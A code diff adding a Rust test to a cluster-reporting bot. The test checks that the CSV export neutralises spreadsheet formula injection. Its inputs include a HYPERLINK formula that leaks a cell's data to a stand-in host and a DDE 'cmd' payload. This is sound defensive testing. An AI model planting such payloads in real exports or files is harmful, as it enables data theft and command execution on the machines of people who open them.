@@ -262,3 +262,61 @@ fn coordinators_extend_the_activity_catalogue_from_the_command_line() {
     let bad = cli(&db, &["activity", "add", "--code", "X1", "--sector", "WASH", "--fr", "x", "--en", "y"]);
     assert!(!bad.status.success() && String::from_utf8_lossy(&bad.stderr).contains("unknown sector"));
 }
+
+#[tokio::test]
+async fn csv_cells_that_would_be_formulas_are_neutralised() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("f.db");
+    let db = Db::connect(&format!("sqlite://{}", path.display())).await.unwrap();
+    let now = chrono::DateTime::parse_from_rfc3339("2026-11-03T10:00:00Z").unwrap().to_utc();
+    let name = cluster_bot::domain::DisplayName::parse("Awa").unwrap();
+    let person = people::get_or_create(&db, 78, &name, cluster_bot::domain::Language::Fr, now).await.unwrap();
+    let nrc = reference::organisation_by_acronym(&db, "NRC").await.unwrap().unwrap();
+    let cpn = reference::mechanism_by_code(&db, "CPN").await.unwrap().unwrap();
+    let hostile = [
+        ("=HYPERLINK(\"http://x.example/?\"&A1,\"clic\")", "+cmd|' /C calc'!A0", "@SUM(1+1)"),
+        ("-2+3", "\tTAB", "\rCR"),
+    ];
+    let lines: Vec<Line> = hostile
+        .iter()
+        .map(|(remarks, partner, donor)| {
+            let mut l = line("PRO-MON", "PRO", "ML05", "ML0507", [1, 1, 1, 1, 0], Some(donor));
+            l.remarks = Some((*remarks).into());
+            l.partner = Some((*partner).into());
+            l
+        })
+        .collect();
+    let month = ReportingMonth::parse("2026-10").unwrap();
+    let submission = NewSubmission {
+        organisation_id: nrc.id,
+        mechanism_id: cpn.id,
+        month,
+        lines: &lines,
+        no_activity: false,
+        late: false,
+        person_id: person.id,
+        now,
+    };
+    reports::submit(&db, submission).await.unwrap();
+    db.close().await;
+    let out_file = dir.path().join("f.csv");
+    let out =
+        cli(&path, &["export", "4w", "--month", "2026-10", "--format", "csv", "--output", out_file.to_str().unwrap()]);
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    let rows = csv_rows(&std::fs::read(&out_file).unwrap());
+    let col = |tag: &str| rows[1].iter().position(|t| t == tag).unwrap();
+    let (first, second) = (&rows[2], &rows[3]);
+    assert_eq!(first[col("#meta+remarks")], "'=HYPERLINK(\"http://x.example/?\"&A1,\"clic\")");
+    assert_eq!(first[col("#org+impl")], "'+cmd|' /C calc'!A0");
+    assert_eq!(first[col("#org+funder")], "'@SUM(1+1)");
+    assert_eq!(second[col("#meta+remarks")], "'-2+3");
+    assert_eq!(second[col("#org+impl")], "'\tTAB");
+    assert_eq!(second[col("#org+funder")], "'\rCR");
+    // No cell of the file starts a formula.
+    for row in &rows[2..] {
+        for cell in row {
+            assert!(!cell.starts_with(['=', '+', '@', '\t', '\r']), "{cell:?}");
+            assert!(!cell.starts_with('-') || cell.parse::<f64>().is_ok(), "{cell:?}");
+        }
+    }
+}
